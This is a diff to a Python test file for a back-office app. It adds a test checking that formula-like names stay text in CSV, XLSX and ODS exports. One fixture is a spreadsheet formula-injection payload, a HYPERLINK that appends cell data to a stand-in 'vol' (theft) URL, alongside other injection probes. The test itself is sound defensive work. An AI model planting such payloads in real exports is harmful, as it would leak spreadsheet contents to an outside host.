@@ -1,6 +1,8 @@
+import csv
 import datetime as dt
 import io
 import re
+import zipfile
 from decimal import Decimal
 from zoneinfo import ZoneInfo
 
@@ -263,3 +265,28 @@ def test_the_bulk_form_is_on_the_list(manager_client, cases):
     assert f'<input type="checkbox" name="challenges" value="{bases}" id="select-{bases}">' in html
     assert '<select class="fr-select" id="bulk-transition" name="transition" required>' in html
     assert '<label class="fr-label" for="bulk-hold-mail">Retenir les e-mails pour relecture</label>' in html
+
+
+FORMULA = '=HYPERLINK("http://exemple.invalid/vol?"&A1,"Cliquez")'
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx", "ods"])
+def test_a_name_that_looks_like_a_formula_stays_text_in_every_export(manager_client, file_format):
+    ChallengeFactory(name=FORMULA, dossier_rows=False)
+    ChallengeFactory(name="-2+3", dossier_rows=False)
+    ChallengeFactory(name="@SUM(1)", dossier_rows=False)
+    response = manager_client.get(reverse("backoffice:challenges_export", args=[file_format]))
+    assert response.status_code == 200
+    if file_format == "csv":
+        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+        names = sorted(row[1] for row in rows[1:])
+        assert names == sorted(["'" + FORMULA, "'-2+3", "'@SUM(1)"])
+    elif file_format == "xlsx":
+        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+        cells = [sheet.cell(row=row, column=2) for row in range(2, 5)]
+        assert sorted(cell.value for cell in cells) == sorted([FORMULA, "-2+3", "@SUM(1)"])
+        assert {cell.data_type for cell in cells} == {"s"}  # strings, not formulas
+    else:
+        content = zipfile.ZipFile(io.BytesIO(response.content)).read("content.xml").decode()
+        assert "table:formula" not in content
+        assert 'office:value-type="string"' in content and "=HYPERLINK(" in content
